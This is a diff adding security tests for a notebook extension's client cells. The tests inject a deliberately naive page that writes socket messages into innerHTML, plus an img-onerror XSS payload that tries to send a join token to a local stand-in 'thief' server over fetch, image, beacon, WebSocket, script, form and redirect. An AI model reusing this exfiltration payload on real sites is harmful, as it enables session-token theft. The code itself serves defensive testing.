@@ -1,5 +1,12 @@
 """``%%client`` and ``io.page``: what runs in them, and what it cannot reach."""
 
+import json
+import threading
+import time
+import urllib.error
+import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
 import pytest
 from playwright.sync_api import expect
 
@@ -27,6 +34,82 @@ fetch(window.__nbsocket_home.origin + "API", { credentials: "include" }).then(
 """
 
 
+# A learner's page that trusts what it shows; what a student may send it is run by it.
+NAIVE = """%%client naive
+var socket = io();
+socket.on("said", (text) => { document.body.innerHTML = text; });
+socket.on("connect", () => console.log("in", socket.id));
+"""
+SPY = """
+const out = [];
+const tell = (what) => console.log(what);
+tell("home=" + JSON.stringify(window.__nbsocket_home.ticket));
+const ticket = () => socket.io.opts.query.join_token;
+const attempts = {
+  fetch: () => fetch(THIEF + "fetch?" + ticket(), { mode: "no-cors" }),
+  image: () => new Promise((done, fail) => {
+    const image = new Image(); image.onload = done; image.onerror = () => fail(new Error("blocked"));
+    image.src = THIEF + "image?" + ticket();
+  }),
+  beacon: async () => { if (!navigator.sendBeacon(THIEF + "beacon", ticket())) throw new Error("blocked"); },
+  socket: () => new Promise((done, fail) => {
+    const one = new WebSocket(THIEF.replace("http", "ws") + "socket?" + ticket());
+    one.onopen = done; one.onerror = () => fail(new Error("blocked"));
+  }),
+  script: () => new Promise((done, fail) => {
+    const one = document.createElement("script"); one.onload = done; one.onerror = () => fail(new Error("blocked"));
+    one.src = THIEF + "script?" + ticket(); document.body.append(one);
+  }),
+  form: async () => {
+    const one = document.createElement("form"); one.action = THIEF + "form?" + ticket(); one.method = "post";
+    document.body.append(one); one.submit();
+  },
+};
+(async () => {
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { await attempt(); tell(name + ": sent"); } catch (error) { tell(name + ": " + error.message); }
+  }
+  // Nothing keeps a frame from going elsewhere: the one way out.
+  setTimeout(() => { location = THIEF + "gone?" + ticket(); }, 300);
+})();
+"""
+
+
+@pytest.fixture
+def thief():
+    """Another origin's server; keeps the addresses that it was asked for."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(
+                b"mine now<script>parent.postMessage({kind: 'seat'}, '*', [new MessageChannel().port1])</script>"
+            )
+
+        do_POST = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/", asked
+        server.shutdown()
+
+
+def status_of(url, method="GET", body=None):
+    request = urllib.request.Request(url, body, method=method)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as answer:
+            return answer.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
 @pytest.fixture
 def notebook(open_notebook, lab):
     cells = [
@@ -39,6 +122,13 @@ def notebook(open_notebook, lab):
         "len(io.sockets)",
         "%%client draws\ndocument.body.append('drawn </script> here');",
         "%%client syntax\nvar s = io(;",
+        NAIVE,
+        "sorted((one.role, one.connected) for one in io.sockets.values())",
+        "%%client back\nvar socket = io();\nsocket.on('connect', () => console.log('in', socket.id));\n"
+        "socket.on('disconnect', (why) => console.log('out', why));\n"
+        "setTimeout(() => socket.io.engine.close(), 1000);\n"
+        "setTimeout(() => { socket.disconnect(); socket.connect(); socket.disconnect(); socket.connect(); }, 4000);",
+        "io.emit('said', open('markup.html').read())",
     ]
     opened = open_notebook("client.ipynb", cells)
     opened.run(0)
@@ -122,3 +212,45 @@ def test_a_ticket_is_not_minted_by_the_cookie_alone(notebook):
         }"""
     )
     assert statuses == [403, 403, 200]
+
+
+@pytest.mark.threat(39)
+def test_a_students_markup_in_a_naive_page_gains_nothing(notebook, lab, thief, errors):
+    address, asked = thief
+    notebook.run(9)
+    shown = script(notebook, "naive")
+    expect(shown.locator("li").first).to_contain_text("in ")
+    assert notebook.run(10).strip() == "[('guest', True)]", "no owner's rights"
+    markup = f"<img src=x onerror='{SPY.replace("'", '&#39;').replace('THIEF', json.dumps(address).replace('"', '&quot;'))}'>"
+    (lab.root / "markup.html").write_text(markup)
+    notebook.run(12)
+    for name in ("fetch", "image", "beacon", "socket", "script"):
+        expect(shown).to_contain_text(f"{name}: ")
+        assert f"{name}: sent" not in shown.inner_text() or name == "beacon"
+    expect(shown).to_contain_text('home=""')
+    until = time.monotonic() + 15
+    while not asked and time.monotonic() < until:
+        notebook.page.wait_for_timeout(100)
+    assert [one.partition("?")[0] for one in asked] == ["/gone"], "only by going away, frame and all"
+    ticket = asked[0].partition("?")[2]
+    assert len(ticket) > 40, "that ticket is real"
+    route = f"{lab.url}nbsocket/client-test/socket.io/?EIO=4&transport=polling&join_token={ticket}"
+    assert status_of(route) == 403
+    for place in (f"?token={ticket}", f"?join_token={ticket}"):
+        tickets = f"{lab.url}nbsocket/api/channels/client-test/tickets{place}"
+        assert status_of(tickets, "POST", b"{}") == 403
+    expect(shown.locator(".nbs-state")).to_contain_text("went to another address", timeout=15_000)
+    expect(shown.locator("iframe")).to_have_count(0)
+    assert notebook.run(10).strip() == "[]"
+    assert status_of(route) == 403
+
+
+@pytest.mark.threat(39)
+def test_a_client_cell_comes_back_with_a_ticket_of_its_own(notebook):
+    notebook.run(11)
+    shown = script(notebook, "back")
+    expect(shown.locator("li").nth(1)).to_contain_text("out ")
+    expect(shown.locator("li").nth(2)).to_contain_text("in ")
+    expect(shown.locator("li").nth(4)).to_contain_text("in ", timeout=15_000)
+    notebook.page.wait_for_timeout(1000)
+    assert notebook.run(10).strip() == "[('guest', True)]"
